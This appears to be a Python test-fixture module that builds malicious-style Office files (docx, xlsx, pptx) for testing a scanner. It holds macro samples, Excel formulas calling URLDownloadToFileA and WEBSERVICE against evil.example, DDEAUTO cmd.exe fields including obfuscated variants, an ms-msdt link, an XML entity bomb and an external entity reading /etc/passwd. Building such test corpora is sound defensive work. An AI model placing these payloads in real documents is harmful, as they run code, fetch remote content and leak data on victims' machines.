"""docx, xlsx and pptx that run, fetch or hide something by their parts."""

from tests.evidence import files
from tests.evidence.corpus.names import DRAWING, PAGE
from tests.evidence.corpus.sample import Sample, samples

VBA = b"\xd0\xcf\x11\xe0 macros"
_PART = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": "ppt/slides/slide1.xml"}
_ROOT = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
_DRAWING_NAMES = 'xmlns:r="r" xmlns:a="a" xmlns:w="w" xmlns:v="v" xmlns:o="o"'


def part(extension: str, inner: str, name: str = "") -> bytes:
    """One part with this in it."""
    return files.office(extension, {name or _PART[extension]: f"<root {_DRAWING_NAMES}>{inner}</root>"})


def related(extension: str, kind: str, target: str, *, outside: bool = True) -> bytes:
    name = f"{_ROOT[extension]}/_rels/extra.xml.rels"
    return files.office(extension, {name: files.relationships((kind, target, outside))})


def with_type(extension: str, kind: str, name: str = "/word/x.dat") -> bytes:
    """A table of contents that says of one part that it is something else."""
    whole = files.office(extension)
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        parts = {entry: archive.read(entry) for entry in archive.namelist()}
    line = f'<Override PartName="{name}" ContentType="{kind}"/></Types>'.encode()
    parts[files.CONTENTS] = parts[files.CONTENTS].replace(b"</Types>", line)
    return files.zipped({**parts, name.lstrip("/"): b"x"})


MACROS = samples(
    "macros",
    [
        *((f"macros.{e}", files.office(e, {f"{r}/vbaProject.bin": VBA})) for e, r in _ROOT.items()),
        ("capitals.docx", files.office("docx", {"word/other/VBAPROJECT.BIN": b"x"})),
        ("data.docx", files.office("docx", {"word/vbaData.xml": "<a/>"})),
        ("renamed.docx", related("docx", "vbaProject", "x.dat", outside=False)),
        ("data renamed.docx", related("docx", "wordVbaData", "x.xml", outside=False)),
        ("sheet.xlsx", files.office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})),
        ("sheet renamed.xlsx", related("xlsx", "xlMacrosheet", "worksheets/s.xml", outside=False)),
        ("sheet of old.xlsx", related("xlsx", "xlIntlMacrosheet", "worksheets/s.xml", outside=False)),
        ("ribbon.docx", related("docx", "extensibility", "customUI/customUI.xml", outside=False)),
        ("kind.docx", files.office("docx", kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("kind.xlsx", files.office("xlsx", kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        (
            "kind.pptx",
            files.office("pptx", kind="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
        ),
        ("said.docx", with_type("docx", "application/vnd.ms-office.vbaProject")),
        ("said.xlsx", with_type("xlsx", "application/vnd.ms-excel.macrosheet+xml", "/xl/x.xml")),
        (
            "name that opens.xlsx",
            part("xlsx", '<definedName name="_xlnm.Auto_Open">x</definedName>', "xl/workbook.xml"),
        ),
        ("name of old.xlsx", part("xlsx", '<definedName name="a" xlm="1">x</definedName>', "xl/names.xml")),
        (
            "name that runs.xlsx",
            part("xlsx", '<definedName name="a" function="true">x</definedName>', "xl/n.xml"),
        ),
        ("exec.xlsx", part("xlsx", '<c><f>EXEC("calc.exe")</f></c>')),
        (
            "call.xlsx",
            part(
                "xlsx", '<c><f>=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example")</f></c>'
            ),
        ),
        ("register.xlsx", part("xlsx", '<c><f>1+REGISTER.ID("kernel32","WinExec")</f></c>')),
        ("click.pptx", part("pptx", '<a:hlinkClick action="ppaction://program?calc.exe"/>')),
        ("click macro.pptx", part("pptx", '<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>')),
    ],
)

_FETCHED = (
    "image",
    "oleObject",
    "attachedTemplate",
    "frame",
    "subDocument",
    "video",
    "audio",
    "externalLinkPath",
)
_PLACES = ("https://evil.example/a", "\\\\evil.example\\share\\a", "file://evil.example/a")
LINKS = samples(
    "external links",
    [
        *(
            (f"{kind} {number}.{extension}", related(extension, kind, place))
            for extension, number in (("docx", 0), ("xlsx", 1), ("pptx", 2))
            for kind in _FETCHED
            for place in [_PLACES[number]]
        ),
        ("not said.docx", related("docx", "image", "https://evil.example/a.png", outside=False)),
        ("not said share.docx", related("docx", "attachedTemplate", "\\\\evil.example\\t.dotm", outside=False)),
        ("package.docx", related("docx", "package", "https://evil.example/a.xlsx")),
        ("mail merge.docx", related("docx", "mailMergeSource", "file:///C:/people.mdb")),
        ("connection.docx", part("docx", '<w:connectString w:val="Provider=SQLOLEDB"/>', "word/settings.xml")),
        ("add-in.docx", related("docx", "webextensiontaskpanes", "webextensions/taskpanes.xml", outside=False)),
        ("click.docx", related("docx", "hyperlink", "javascript:alert(1)")),
        ("click tool.docx", related("docx", "hyperlink", "ms-msdt:/id PCWDiagnostic")),
        ("click search.pptx", related("pptx", "hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil.example")),
        ("drawn.docx", files.office("docx", {"word/vml.vml": '<xml><v:imagedata src="https://evil.example/a"/></xml>'})),
        ("drawn too.xlsx", part("xlsx", '<v:imagedata o:href="\\\\evil.example\\a"/>', "xl/drawing.xml")),
        ("question.xlsx", part("xlsx", '<connection><dbPr connection="Provider=x" command="select 1"/></connection>', "xl/connections.xml")),
        ("web question.xlsx", part("xlsx", '<webPr url="https://evil.example"/>', "xl/connections.xml")),
        ("text question.xlsx", part("xlsx", '<textPr sourceFile="C:\\a.csv"/>', "xl/connections.xml")),
        ("exchange.xlsx", part("xlsx", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl/externalLinks/externalLink1.xml")),
        ("ole link.xlsx", part("xlsx", '<oleLink progId="Excel.Sheet"/>', "xl/externalLinks/externalLink1.xml")),
        ("web service.xlsx", part("xlsx", '<c><f>_xlfn.WEBSERVICE("https://evil.example/?q="&amp;A1)</f></c>')),
        ("picture.xlsx", part("xlsx", '<c><f>_xlfn.IMAGE("https://evil.example/a")</f></c>')),
        ("real time.xlsx", part("xlsx", '<c><f>RTD("evil.server",,"x")</f></c>')),
        ("command.xlsx", part("xlsx", "<c><f>cmd|'/c calc'!A0</f></c>")),
        ("in a rule.xlsx", part("xlsx", '<formula1>WEBSERVICE("https://evil.example")</formula1>')),
        ("in a name.xlsx", part("xlsx", '<definedName name="a">WEBSERVICE("https://evil.example")</definedName>', "xl/n.xml")),
        ("in numbers.xlsx", part("xlsx", "<c><f>&#87;EB&#83;ERVICE(A1)</f></c>")),
    ],
)  # fmt: skip # laid out to be read


def field(*runs: str, inner: str = "") -> str:
    """A field of Word as it stands in the XML, in pieces."""
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:fldChar w:fldCharType="begin"/>{inner}{texts}<w:fldChar w:fldCharType="end"/>'


_FIELDS = {
    "plain": field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc.exe"'),
    "small": field("dde excel sheet1 r1c1"),
    "in pieces": field("DD", "EA", "UTO c:\\\\windows\\\\cmd.exe"),
    "simple": '<w:fldSimple w:instr="DDEAUTO cmd &quot;/k calc&quot;"/>',
    "without a beginning": "<w:instrText>DDEAUTO cmd</w:instrText>",
    "without an end": '<w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd</w:instrText>',
    "separated": field("DDEAUTO cmd").replace("<w:fldChar w:fldCharType=\"end\"/>", '<w:fldChar w:fldCharType="separate"/>'),
    "in numbers": field("&#68;DEAUTO cmd"),
    "worked out": field("cmd", inner=field("QUOTE 68 68 69 65 85 84 79")),
    "spelled": field("SET x", inner="") + field("QUOTE 68 68 69 65"),
    "broken up": field("DDE<w:x/>AUTO cmd"),
    "link": field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx"'),
    "text": field('INCLUDETEXT "https://evil.example/a.docx"'),
    "picture": field('INCLUDEPICTURE "https://evil.example/a.png" \\d'),
    "picture of a share": field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"'),
    "database": field('DATABASE \\d "https://evil.example/a.mdb"'),
}  # fmt: skip # laid out to be read
FIELDS = samples(
    "fields",
    [
        *((f"{what}.docx", part("docx", text)) for what, text in _FIELDS.items()),
        ("in a header.docx", part("docx", _FIELDS["plain"], "word/header3.xml")),
        ("in a note.docx", part("docx", _FIELDS["in pieces"], "word/footnotes.xml")),
        ("in any part.docx", part("docx", _FIELDS["plain"], "word/other.dat")),
        ("wide.docx", files.office("docx", {"word/w.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:p xmlns:w="w">{_FIELDS["plain"]}</w:p>'.encode("utf-16")})),
    ],
)  # fmt: skip # laid out to be read

BOMB = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">{}]><a>&j;</a>'.format(
    "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
XML = samples(
    "entities",
    [
        *((f"bomb.{e}", files.office(e, {p: BOMB})) for e, p in _PART.items()),
        *((f"outside.{e}", files.office(e, {p: OUTSIDE})) for e, p in _PART.items()),
        ("relations.docx", files.office("docx", {"word/_rels/x.rels": BOMB})),
        (
            "parameter.docx",
            files.office("docx", {"word/x.xml": '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd"><a/>'}),
        ),
        ("wide bomb.docx", files.office("docx", {"word/x.xml": BOMB.encode("utf-16")})),
        ("broken.docx", files.office("docx", {"word/x.xml": "<a><b></a>"})),
        ("deep.xlsx", files.office("xlsx", {"xl/x.xml": "<a>" * 5 + "&nbsp;"})),
        ("drawing.docx", files.office("docx", {"word/d.vml": '<!DOCTYPE a [<!ENTITY b "c">]><xml/>'})),
    ],
)

OBJECTS = samples(
    "objects",
    [
        ("object.docx", files.office("docx", {"word/embeddings/oleObject1.bin": files.old_office()})),
        ("relation.docx", related("docx", "oleObject", "embeddings/o.bin", outside=False)),
        ("control.docx", files.office("docx", {"word/activeX/activeX1.xml": "<a/>"})),
        ("control relation.xlsx", related("xlsx", "control", "x.xml", outside=False)),
        ("control data.pptx", related("pptx", "activeXControlBinary", "x.bin", outside=False)),
        ("page.docx", files.office("docx", {"word/afchunk.dat": PAGE.replace(b"<!DOCTYPE html>", b"")})),
        ("other part.docx", part("docx", '<w:altChunk r:id="rId1"/>')),
        ("other part relation.docx", related("docx", "aFChunk", "x.dat", outside=False)),
        ("drawing.docx", files.office("docx", {"word/media/image1.svg": DRAWING})),
        ("drawing that links.pptx", files.office("pptx", {"ppt/media/a.svg": '<svg xmlns:x="x"><image x:href="https://evil.example"/></svg>'})),
        ("drawing with a page.xlsx", files.office("xlsx", {"xl/media/a.svg": "<svg><foreignObject><p/></foreignObject></svg>"})),
        ("said page.docx", with_type("docx", "text/html")),
        ("said script.docx", with_type("docx", "application/javascript")),
        ("said program.docx", with_type("docx", "application/x-msdownload")),
        ("script.docx", part("docx", "<script>alert(1)</script>")),
    ],
)  # fmt: skip # laid out to be read

SAMPLES: list[Sample] = [*MACROS, *LINKS, *FIELDS, *XML, *OBJECTS]
